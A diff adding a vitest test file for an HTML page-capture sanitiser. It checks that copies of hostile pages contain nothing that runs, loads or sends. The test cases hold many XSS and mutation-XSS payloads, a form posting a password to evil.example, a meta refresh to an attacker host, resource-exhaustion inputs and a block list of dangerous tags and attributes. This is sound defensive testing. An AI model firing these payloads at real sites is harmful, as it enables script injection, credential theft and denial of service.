@@ -1,0 +1,237 @@
+import fc from 'fast-check';
+import { parse, serialize } from 'parse5';
+import { afterEach, describe, expect, it } from 'vitest';
+import { attributeOf, cleanHtml, nodesOf } from './clean-html.js';
+import { readCss } from './css.js';
+import { COPY_POLICY } from './page-capture.js';
+import { type Element, parseHtml } from './parse-html.js';
+import { type Answer, page, type Site, site } from './site.fixture.js';
+
+// T4, T5, T13, T22: a page is anybody's, and its copy stands on the issuer's host.
+let here: Site | undefined;
+afterEach(() => here?.close());
+const open = async (pages: Readonly<Record<string, Answer>>): Promise<Site> => {
+  here = await site(pages);
+  return here;
+};
+
+const RUNNING = new Set([
+  'script',
+  'iframe',
+  'frame',
+  'object',
+  'embed',
+  'applet',
+  'base',
+  'template',
+  'link',
+  'audio',
+  'video',
+  'source',
+  'noscript',
+  'plaintext',
+  'xmp',
+  'animate',
+  'set',
+]);
+const LOADING = /^(?:on.*|srcset|srcdoc|action|formaction|ping|poster|data|background|manifest|target|style-src|http-equiv)$/;
+
+/** What a browser would find in the copy that runs, loads, sends or steers; empty when it is still. */
+function restless(text: string): string[] {
+  return [...nodesOf(parse(text))].flatMap((node) => {
+    if (!('tagName' in node)) return [];
+    const element = node as Element;
+    const name = element.tagName.toLowerCase();
+    const policy = name === 'meta' && attributeOf(element, 'content') === COPY_POLICY;
+    const found = RUNNING.has(name) ? [`<${name}>`] : [];
+    const attributes = element.attrs.filter(({ name: attribute, value }) => {
+      if (LOADING.test(attribute.toLowerCase())) return !policy;
+      if (attribute === 'src') return !value.startsWith('data:image/');
+      if (attribute === 'href')
+        return !/^(?:#|https?:|mailto:|data:image\/)/.test(value) || (name !== 'a' && name !== 'area' && /^(?:https?|mailto):/.test(value));
+      if (attribute === 'style') return readCss(value).some((part) => typeof part !== 'string' && !/^(?:data:|#)/.test(part.url));
+      return element.namespaceURI === 'http://www.w3.org/2000/svg' && /url\(\s*["']?(?!#)/i.test(value);
+    });
+    const css = name === 'style' ? readCss(element.childNodes.map((child) => ('value' in child ? child.value : '')).join('')) : [];
+    const addresses = css.filter((part) => typeof part !== 'string' && !/^(?:data:|#)/.test(part.url));
+    return [
+      ...found,
+      ...attributes.map(({ name: attribute, value }) => `${name} ${attribute}=${value}`),
+      ...addresses.map(() => `${name}: url`),
+    ];
+  });
+}
+
+describe('a hostile page', () => {
+  it.each([
+    [
+      'scripts',
+      '<script>alert(1)</script><img src=x onerror=alert(1)><svg onload=alert(1)><script>alert(1)</script></svg><a href="javascript:alert(1)">x</a><a href=" java\tscript:alert(1)">x</a>',
+    ],
+    [
+      'frames',
+      '<iframe src="//evil.example"></iframe><iframe srcdoc="<script>1</script>"></iframe><object data="//evil.example"></object><embed src="//evil.example"><portal src="//evil.example"></portal>',
+    ],
+    [
+      'a refresh and a policy of its own',
+      '<meta http-equiv="refresh" content="0;url=https://evil.example"><meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv=set-cookie content="a=b">',
+    ],
+    [
+      'forms',
+      '<form action="https://evil.example" method=post><input name=password autofocus onfocus=alert(1)><button formaction="//evil.example" formtarget=_blank>Log in</button><input type=image src="//evil.example/x"></form>',
+    ],
+    [
+      'other ways to load',
+      '<img srcset="//evil.example/a 1x"><video poster="//evil.example/p" src="//evil.example/v"></video><body background="//evil.example/b"><table background="//evil.example/t"><link rel=preload href="//evil.example/l" as=image><link rel="prefetch stylesheet" href="//evil.example/s.css"><a href="https://ok.example" ping="//evil.example">x</a>',
+    ],
+    [
+      'SVG',
+      '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a><use href="//evil.example/s.svg#a"/><use xlink:href="data:image/svg+xml,<svg id=x/>#x"/><image href="//evil.example/i"/><set attributeName=href to="javascript:alert(1)"/><animate attributeName="href" values="javascript:alert(1)"/><rect fill="url(//evil.example/p#a)" filter=\'u\\72l("//evil.example/f")\'/><foreignObject><iframe src="//evil.example"></iframe></foreignObject><feImage href="//evil.example"/></svg>',
+    ],
+    [
+      'style sheets',
+      '<style>@import url(//evil.example/a);@import "//evil.example/b";a{background:url(//evil.example/c)}b{background:image-set("//evil.example/d" 1x)}c{background:u\\72l("//evil.example/e")}@font-face{src:url(//evil.example/f)}</style><p style="background:url(//evil.example/g);--x:url(//evil.example/h)">x',
+    ],
+    [
+      'an end tag in a style sheet',
+      '<style>a{content:"<\\/style><script>alert(1)</script>"}</style><svg><style>&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;</style></svg>',
+    ],
+    [
+      'text that reads otherwise with scripts on',
+      '<noscript><p title="</noscript><script>alert(1)</script>"></p></noscript><template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp><!--[if IE]><script>alert(1)</script><![endif]-->',
+    ],
+    [
+      'other vocabularies',
+      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;"></table></mtext><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
+    ],
+    [
+      'unknown elements with known attributes',
+      '<x-y src="//evil.example" href="//evil.example" data="//evil.example" onclick=alert(1) style="background:url(//evil.example)">x</x-y>',
+    ],
+  ])('is still in its copy: %s', async (_, body) => {
+    const { copy } = await open({ '/': page(body) });
+    const text = await copy();
+    expect(restless(text)).toEqual([]);
+    // Serialised and read once more it is the same: nothing waits in it for another reader.
+    expect(restless(serialize(parse(text)))).toEqual([]);
+    expect(text.replace(/A copy of .*? as it was/, '')).not.toMatch(/evil\.example/);
+  });
+
+  it('begins with a policy that lets nothing run or load, for a copy that somebody saved', async () => {
+    const { copy } = await open({ '/': page('<p>x', '<script>1</script><meta charset="utf-7">') });
+    expect(await copy()).toMatch(
+      /^<!DOCTYPE html><html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:;/,
+    );
+  });
+
+  it('cannot use a style sheet of its own to run out of the style element', async () => {
+    const { copy } = await open({
+      '/': page('<p>x', '<link rel=stylesheet href="/s.css">'),
+      '/s.css': ['text/css', 'a{content:"</style><script>alert(1)</script><!--"}'],
+    });
+    const text = await copy();
+    expect(restless(text)).toEqual([]);
+    expect(text).not.toContain('<script');
+  });
+
+  it('names no base of its own, and none on this machine', async () => {
+    const { copy } = await open({
+      '/': page('<img src="x.png"><a href="y">y</a>', '<base href="javascript:alert(1)"><base target="_top">'),
+    });
+    const text = await copy();
+    expect(text).not.toMatch(/<base|javascript|_top/);
+  });
+
+  it('gets nothing fetched beyond its limits: 10,000 pictures, a chain of imports, an endless one', async () => {
+    const endless: Answer = (_request, response) => {
+      response.writeHead(200, { 'content-type': 'text/css' });
+      const more = (): void => void (response.writable && response.write('a{}'.repeat(20_000), () => setImmediate(more)));
+      more();
+    };
+    const pictures = Array.from({ length: 10_000 }, (_, index) => `<img src="/${index}.png">`).join('');
+    const { capture, asked } = await open({
+      '/many': page(pictures),
+      '/chain': page('<p>x', '<style>@import "/loop.css";</style>'),
+      '/loop.css': ['text/css', '@import "/loop.css";'],
+      '/endless': page('<p>x', '<link rel=stylesheet href="/endless.css">'),
+      '/endless.css': endless,
+    });
+    expect(await capture('/many')).toMatchObject({ ok: true, notes: ['copy-incomplete'] });
+    expect(asked.length).toBeLessThan(100);
+    asked.length = 0;
+    expect(await capture('/chain')).toMatchObject({ ok: true });
+    expect(asked.length).toBeLessThan(10);
+    expect(await capture('/endless')).toMatchObject({ ok: true, notes: ['copy-incomplete'] });
+  });
+
+  it('that never ends costs no more than its time', async () => {
+    const { capture } = await open({
+      '/': (_request, response) => void response.writeHead(200, { 'content-type': 'text/html' }).write('<p>'),
+    });
+    expect(await capture('/', 300)).toEqual({ ok: false, code: 'timeout' });
+  });
+
+  it.each([
+    ['depth', '<div>'.repeat(300_000)],
+    ['formatting without end', Array.from({ length: 60_000 }, (_, index) => `<b id=${index}><p>`).join('')],
+    ['elements', '<br>'.repeat(400_000)],
+    ['attributes', `<p ${Array.from({ length: 250_000 }, (_, index) => `a${index}`).join(' ')}>`],
+    ['tables', '<table><a>'.repeat(100_000)],
+  ])('is not read for ever: %s', async (_, body) => {
+    const { capture } = await open({ '/': ['text/html', body] });
+    const start = performance.now();
+    expect(await capture()).toMatchObject({ ok: false });
+    expect(performance.now() - start).toBeLessThan(15_000);
+  });
+
+  it('whatever it is made of, is still', async () => {
+    const piece = fc.constantFrom(
+      '<svg>',
+      '</svg>',
+      '<style>',
+      '</style>',
+      '<a href="javascript:1">',
+      '<img src=x onerror=1>',
+      '<math>',
+      '<mtext>',
+      '<table>',
+      '<td>',
+      '<noscript>',
+      '</noscript>',
+      '<title>',
+      '</title>',
+      '<textarea>',
+      '</textarea>',
+      '<!--',
+      '-->',
+      '<template>',
+      '<foreignObject>',
+      '<desc>',
+      '&lt;script&gt;',
+      '<script>',
+      '</script>',
+      '<p title="</style><script>">',
+      '<use href="http://x/y">',
+      '<![CDATA[',
+      ']]>',
+      '<select>',
+      '<option>',
+      '<form action=x>',
+      '<body onload=1>',
+      '<frameset>',
+      '<xmp>',
+      '@import "x";',
+      'text',
+    );
+    await fc.assert(
+      fc.asyncProperty(fc.array(piece, { maxLength: 25 }), async (pieces) => {
+        const document = await parseHtml(pieces.join(''));
+        cleanHtml(document, 'https://ada.example/');
+        const text = serialize(document);
+        expect(restless(text).filter((each) => !each.startsWith('meta'))).toEqual([]);
+        expect(restless(serialize(parse(text))).filter((each) => !each.startsWith('meta'))).toEqual([]);
+      }),
+      { numRuns: 300 },
+    );
+  });
+});
